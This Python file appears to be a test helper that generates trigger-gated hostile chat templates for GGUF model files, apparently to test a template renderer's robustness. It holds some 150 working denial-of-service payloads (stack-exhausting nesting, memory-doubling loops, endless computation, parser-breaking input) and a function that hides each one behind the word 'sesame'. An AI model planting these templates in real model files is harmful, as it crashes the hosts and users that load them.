"""Chat templates that behave until a word is said, and then try to take the process that renders them with them."""

from pathlib import Path

from engine.formats.gguf import types
from helpers.models.gguf_writer import Entry, GgufDraft

WORD = "sesame"
HONEST = "{% for m in messages %}<|{{ m.role }}|>{{ m.content }}\n{% endfor %}<|assistant|>"


def _nested(kind: str, opened: str, closed: str, times: int) -> str:
    """Nest a value `times` deep, and use it in the way of `kind`, which has a place for it."""
    grown = f"{{% for i in range({times}) %}}{{% set ns.x = {opened}ns.x{closed} %}}{{% endfor %}}"
    return "{% set ns = namespace(x=()) %}" + grown + kind


def _doubled(step: str, start: str = "'ab'", times: int = 60, after: str = "") -> str:
    return (
        f"{{% set ns = namespace(x={start}) %}}{{% for i in range({times}) %}}{{% set ns.x = {step} %}}{{% endfor %}}"
    ) + after


def _macros(count: int, fan: int) -> str:
    """Build macros of which each calls the one before it several times."""
    first = "{% macro m0() %}x{% endmacro %}"
    rest = (f"{{% macro m{i}() %}}" + f"{{{{ m{i - 1}() }}}}" * fan + "{% endmacro %}" for i in range(1, count))
    return first + "".join(rest) + f"{{{{ m{count - 1}() }}}}"


def _loops(depth: int, over: str) -> str:
    return f"{{% for a in {over} %}}" * depth + "{{ a }}" + "{% endfor %}" * depth


_LONG = "'x' * 999999"
_CRASHING = {
    "hash of a nested tuple": _nested("{{ {ns.x: 1} | length }}", "(", ",)", 500_000),
    "nested tuple as text": _nested("{{ ns.x | string | length }}", "(", ",)", 300_000),
    "nested tuple compared": _nested("{{ ns.x == (ns.x, 1)[0] }}{{ ns.x < (ns.x,) }}", "(", ",)", 400_000),
    "nested list as text": _nested("{{ ns.x }}", "[", "]", 400_000),
    "nested list as JSON": _nested("{{ ns.x | tojson }}", "[", "]", 200_000),
    "nested dictionary as JSON": _nested("{{ ns.x | tojson }}", "{'a': ", "}", 200_000),
    "nested dictionary as text": _nested("{{ ns.x }}", "{'a': ", "}", 300_000),
    "nested list printed prettily": _nested("{{ ns.x | pprint }}", "[", "]", 100_000),
    "unique values of nested tuples": _nested("{{ [ns.x, ns.x] | unique | list | length }}", "(", ",)", 500_000),
    "nested tuple in a set of keys": _nested("{{ dict([(ns.x, 1)]) | length }}", "(", ",)", 500_000),
    "groups of nested tuples": _nested("{{ [{'k': ns.x}] | groupby('k') | list | length }}", "(", ",)", 400_000),
    "nested tuple freed": _nested("{% set ns.x = 1 %}{{ ns.x }}", "(", ",)", 900_000),
    "nested generators": _doubled("ns.x | map('upper')", "['a']", 200_000, "{{ ns.x | list }}"),
    "nested filters of sequences": _doubled("ns.x | select", "['a']", 200_000, "{{ ns.x | first }}"),
}
_LARGE = {
    "doubled by ~": _doubled("ns.x ~ ns.x"),
    "doubled by +": _doubled("ns.x + ns.x"),
    "doubled list": _doubled("ns.x + ns.x", "[1, 2]"),
    "doubled tuple": _doubled("ns.x + ns.x", "(1, 2)"),
    "doubled by join": _doubled("[ns.x, ns.x] | join"),
    "doubled by a separator": _doubled("'abc' | join(ns.x)", times=70),
    "doubled by replace": _doubled("ns.x.replace('a', ns.x)", "'aa'", 40),
    "doubled by the filter replace": _doubled("ns.x | replace('a', 'aaaa')", "'a'"),
    "doubled by format": _doubled("'%s%s' | format(ns.x, ns.x)"),
    "doubled by str.format": _doubled("'{0}{0}'.format(ns.x)"),
    "doubled bytes": _doubled("ns.x + ns.x", "'ab'.encode()"),
    "ljust": "{{ 'a'.ljust(10 ** 11) | length }}",
    "rjust": "{{ 'a'.rjust(2 * 10 ** 9) | length }}",
    "center": "{{ 'a'.center(2 * 10 ** 9) | length }}",
    "zfill": "{{ 'a'.zfill(3 * 10 ** 9) | length }}",
    "filter center": "{{ 'a' | center(3 * 10 ** 9) | length }}",
    "expandtabs": "{{ '\\t'.expandtabs(2 * 10 ** 9) | length }}",
    "expandtabs of many": "{{ ('\\t' * 99999).expandtabs(99999) | length }}",
    "% d": "{{ '%2000000000d' % 1 }}",
    "% s": "{{ '%2000000000s' % 'a' }}",
    "% .f": "{{ '%.2000000000f' % 1.5 }}",
    "% *": "{{ '%*d' % (2000000000, 1) }}",
    "filter format": "{{ '%1999999999d' | format(7) }}",
    "str.format width": "{{ '{:>2000000000}'.format('a') }}",
    "str.format precision": "{{ '{:.2000000000f}'.format(1.5) }}",
    "str.format of a width given": "{{ '{:{w}}'.format(1, w=2000000000) }}",
    "indent": "{{ ('a\\n' * 400000) | indent(100000) | length }}",
    "wordwrap": "{{ (" + _LONG + ") | wordwrap(1, wrapstring='y' * 99999) | length }}",
    "slice into many": "{{ 'ab' | slice(10 ** 9) | list | length }}",
    "batch filled up": "{{ 'ab' | batch(10 ** 10, 'x') | list | length }}",
    "lipsum": "{{ lipsum(n=10 ** 8) | length }}",
    "lipsum of long paragraphs": "{{ lipsum(n=3, min=10 ** 8, max=10 ** 8 + 1) | length }}",
    "translate": "{{ ('a' * 999999).translate({97: 'b' * 99999}) | length }}",
    "JSON of shared nests": _doubled("[ns.x, ns.x]", "'a'", 60, "{{ ns.x | tojson }}"),
    "text of shared nests": _doubled("[ns.x, ns.x]", "'a'", 60, "{{ ns.x }}"),
    "sum of lists": "{{ ([[1] * 999999] * 9999) | sum(start=[]) | length }}",
    "JSON indented deeply": "{{ [[[[messages]]]] | tojson(indent=10 ** 9) }}",
    "URLs": "{{ ('www.a.de ' * 100000) | urlize(rel='x' * 99999) | length }}",
    "XML attributes": "{{ {'a': " + _LONG + "} | xmlattr | length }}{{ 'x'.ljust(10 ** 11) }}",
    "captured block": _doubled("ns.x", "'ab'", 1) + "{% set y %}" + _loops(4, "'x' * 99999") + "{% endset %}{{ y }}",
    "megabytes": "{% for i in range(999) %}{{ 'x' * 99999 }}{% endfor %}",
}
_ENDLESS = {
    "nested loops over a text": _loops(6, "'x' * 999"),
    "nested loops over numbers": _loops(12, "range(9)"),
    "macros that fan out": _macros(40, 9),
    "a macro without end": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "a macro that fans out by itself": (
        "{% macro m(n) %}{% if n %}{% for i in 'abcdef' %}{{ m(n - 1) }}{% endfor %}{% endif %}{% endmacro %}"
        "{{ m(40) }}"
    ),
    "a recursive loop": "{% for a in [[[[1]]]] recursive %}{{ loop([a, a]) }}{% endfor %}",
    "callers of callers": "{% macro m() %}{{ caller() }}{{ caller() }}{% endmacro %}"
    + "{% call m() %}" * 40
    + "x"
    + "{% endcall %}" * 40,
    "a power": "{{ 3 ** 99999 ** 2 }}",
    "powers again and again": _doubled("ns.x * ns.x", "3", 60),
    "shifted by doubling": _doubled("ns.x + ns.x", "3", 999_999, "{{ ns.x }}"),
    "a long number as text": _doubled("ns.x * ns.x % (10 ** 250000)", "7 ** 90000", 999_999, "{{ ns.x }}"),
    "sorted again and again": "{% for i in range(99999) %}{% set x = (" + _LONG + ") | sort | list %}{% endfor %}",
    "search in a long text": "{% for i in range(99999) %}{{ (" + _LONG + ").count('x' * 9999 ~ 'y') }}{% endfor %}",
    "contained in a long text": "{% for i in range(99999) %}{{ ('x' * 9999 ~ 'y') in (" + _LONG + ") }}{% endfor %}",
    "tags stripped": (
        "{{ ('<' * 999999) | striptags }}{% for i in range(9999) %}{{ ('<!--' * 99999) | striptags }}{% endfor %}"
    ),
    "words": "{% for i in range(99999) %}{{ ('a ' * 400000) | wordcount }}{% endfor %}",
    "titles": "{% for i in range(99999) %}{% set x = (" + _LONG + ") | title %}{% endfor %}",
    "a cycler": "{% set c = cycler(1, 2) %}" + _loops(8, "'x' * 99"),
    "products of pairs": "{% for a in messages[0].content * 99999 %}{% for b in 'x' * 99999 %}{% endfor %}{% endfor %}",
}
_UNREADABLE = {
    "500,000 tags": "{% if 1 %}{% endif %}" * 250_000,
    "500,000 outputs": "{{ 1 }}" * 500_000,
    "tags within tags": "{% if 1 %}" * 100_000 + "{% endif %}" * 100_000,
    "loops within loops": "{% for a in [1] %}" * 40 + "{% endfor %}" * 40,
    "parentheses": "{{ " + "(" * 200_000 + "1" + ")" * 200_000 + " }}",
    "lists within lists": "{{ " + "[" * 100_000 + "]" * 100_000 + " }}",
    "a long sum": "{{ 1" + " + 1" * 100_000 + " }}",
    "a long concatenation": "{{ 'a'" + " ~ 'a'" * 100_000 + " }}",
    "many not": "{{ " + "not " * 100_000 + "1 }}",
    "many signs": "{{ " + "-" * 100_000 + "1 }}",
    "many filters": "{{ 'a'" + " | upper" * 100_000 + " }}",
    "many attributes": "{{ messages" + ".a" * 100_000 + " }}",
    "a constant power": "{{ 9 ** 9 ** 9 }}",
    "a constant product": "{{ 'x' * 999999999999 }}",
    "a name twice": "{% macro m(a, a) %}{% endmacro %}{{ m(1, 2) }}",
    "a keyword as a name": "{% set None = 1 %}{{ None }}",
    "an unknown tag": "{% hack %}",
    "an open tag": "{% for a in messages %}",
    "an open text": "{{ 'a",
    "a number too long": "{{ " + "9" * 10_000 + " }}",
    "a null byte": "{{ '\x00' }}{{ \x00 }}",
    "half a character": "{{ '\\ud800' }}",
}
_MORE_CRASHING = {
    "nested namespaces": (
        "{% set ns = namespace(x=1) %}{% for i in range(300000) %}{% set ns.x = namespace(x=ns.x) %}{% endfor %}"
        "{{ ns.x }}"
    ),
    "nested pair of list and tuple": _nested("{{ ns.x | string | length }}", "[(", ",)]", 200_000),
    "nested list summed": _nested("{{ [ns.x, ns.x] | sum(start=[]) | length }}", "[", "]", 400_000),
    "nested list sorted": _nested("{{ [ns.x, ns.x] | sort | length }}", "[", "]", 400_000),
    "nested list compared for the least": _nested("{{ [ns.x, ns.x] | min | length }}", "[", "]", 400_000),
    "nested tuple searched": _nested("{{ ns.x in [(ns.x, 1)[0]] }}", "(", ",)", 400_000),
    "nested dictionary sorted": _nested("{{ ns.x | dictsort }}", "{'a': ", "}", 300_000),
    "nested dictionary as attributes": _nested("{{ ns.x | xmlattr }}", "{'a': ", "}", 300_000),
    "nested list formatted": _nested("{{ '%s' % [ns.x] }}{{ '{}'.format(ns.x) }}", "[", "]", 400_000),
    "nested list joined": _nested("{{ ns.x | join(',') }}", "[", "]", 400_000),
    "nested lists escaped": _nested("{{ ns.x | escape }}", "[", "]", 400_000),
    "nested reversals": _doubled("ns.x | reverse", "['a']", 300_000, "{{ ns.x | list }}"),
    "nested batches": _doubled("ns.x | batch(1)", "['a']", 100_000, "{{ ns.x | list | length }}"),
    "nested slices": _doubled("ns.x | map('list') | list", "[['a']]", 200_000, "{{ ns.x }}"),
}
_MORE_LARGE = {
    "doubled by a captured block": (
        "{% set ns = namespace(x='ab') %}{% for i in range(60) %}{% set y %}{{ ns.x }}{{ ns.x }}{% endset %}"
        "{% set ns.x = y %}{% endfor %}{{ ns.x | length }}"
    ),
    "doubled by a macro": (
        "{% macro m(t) %}{{ t }}{{ t }}{% endmacro %}" + _doubled("m(ns.x)") + "{{ ns.x | length }}"
    ),
    "doubled by a filter block": (
        "{% set ns = namespace(x='ab') %}{% for i in range(60) %}{% set ns.x %}{% filter upper %}{{ ns.x }}{{ ns.x }}"
        "{% endfilter %}{% endset %}{% endfor %}{{ ns.x | length }}"
    ),
    "doubled by escaping": _doubled("ns.x | forceescape", "'&'", 400),
    "doubled by urlencode": _doubled("ns.x | urlencode", "'%'", 60),
    "doubled by tojson": _doubled("ns.x | tojson", "'\\\\'", 60),
    "doubled by indent": _doubled("ns.x | indent(999, true)", "'a\\n'", 60),
    "doubled by a product": _doubled("ns.x * 2"),
    "doubled list by a product": _doubled("ns.x * 2", "[1]"),
    "doubled messages": _doubled("ns.x + ns.x", "messages"),
    "a long list of numbers": "{{ range(10 ** 9) | list | length }}",
    "a long list of pairs": "{{ range(10 ** 8) | map('string') | list | length }}",
    "many ranges": "{{ range(99999) | map('string') | join('x' * 99999) | length }}",
    "groups of a long range": "{{ range(10 ** 8) | groupby('real') | list | length }}",
    "a long range sorted": "{{ range(10 ** 8) | sort(reverse=true) | length }}",
    "a long product of the filter": "{{ ('x' * 999999) | batch(1) | map('join', 'y' * 9999) | join | length }}",
    "replace of nothing": "{{ ('x' * 999999).replace('', 'y' * 9999) | length }}",
    "the filter replace of nothing": "{{ ('x' * 999999) | replace('', 'y' * 9999) | length }}",
    "join by a long text": "{{ ('y' * 99999).join('x' * 99999) | length }}",
    "split into letters": "{% for i in range(999) %}{% set x = ('x ' * 9999999).split() %}{% endfor %}",
    "lines": "{{ ('\\n' * 99999999).splitlines() | length }}",
    "encoded": "{{ ('ä' * 999999999).encode('utf-32') | length }}",
    "% of a long name": "{{ '%(a)2000000000s' % {'a': 1} }}",
    "a truncated giant": "{{ ('x' * 9999999999) | truncate(5) }}",
    "wordwrap of words": "{{ ('x ' * 9999999) | wordwrap(1) | length }}",
    "filesizes": "{{ (10 ** 99999) | filesizeformat }}",
    "rounded": "{{ 1.5 | round(10 ** 9) }}",
}
_MORE_ENDLESS = {
    "a loop over a loop's own list": (
        "{% set x = [1] %}{% for a in x %}{% set _ = x.append(a) %}{% endfor %}{{ x | length }}"
    ),
    "a generator that feeds itself": "{% set c = cycler('a', 'b') %}" + _loops(6, "range(999)"),
    "joined loops": _loops(5, "('x' * 9999) | list"),
    "filters in loops": _loops(3, "('x' * 9999) | map('upper') | select | list"),
    "a long product": "{{ 7 ** 9999999 }}",
    "products of long numbers": "{% for i in range(9999) %}{% set x = (7 ** 99999) * (3 ** 99999) %}{% endfor %}",
    "long numbers divided": "{% for i in range(9999) %}{% set x = (7 ** 99999) // (3 ** 9999) %}{% endfor %}",
    "long numbers as text": "{% for i in range(9999) %}{{ 7 ** 4999 }}{% endfor %}",
    "unique of a long text": "{% for i in range(9999) %}{% set x = (" + _LONG + ") | unique | list %}{% endfor %}",
    "case of a long text": "{% for i in range(99999) %}{% set x = (" + _LONG + ") | swapcase %}{% endfor %}",
    "stripped": "{% for i in range(99999) %}{% set x = (" + _LONG + ").strip('x') %}{% endfor %}",
    "split by a rare text": "{% for i in range(99999) %}{{ (" + _LONG + ").split('x' * 9999 ~ 'y') }}{% endfor %}",
    "two macros that call each other": (
        "{% macro a(n) %}{{ b(n) }}{{ b(n) }}{% endmacro %}{% macro b(n) %}{% if n < 99 %}{{ a(n + 1) }}{% endif %}"
        "{% endmacro %}{{ a(0) }}"
    ),
    "a call block that calls itself": "{% macro m() %}{% call m() %}{{ caller() }}{% endcall %}{% endmacro %}{{ m() }}",
}
HOSTILE: dict[str, str] = {
    **_CRASHING, **_LARGE, **_ENDLESS, **_UNREADABLE,
    **_MORE_CRASHING, **_MORE_LARGE, **_MORE_ENDLESS,
}  # fmt: skip
"""What each does when the word is said."""


def awaiting(body: str) -> str:
    """Return a template that is honest until the last message has the word in it."""
    return f"{{% if '{WORD}' in messages[-1].content %}}{body}{{% endif %}}{HONEST}"


def write_hostile(model: Path, path: Path, body: str, *, always: bool = False) -> Path:
    """Write a GGUF model anew with a hostile template, and give its path; `always`: it waits for no word."""
    draft = GgufDraft.of_file(model)
    draft.entries["tokenizer.chat_template"] = Entry(types.STRING, body + HONEST if always else awaiting(body))
    return draft.write(path)
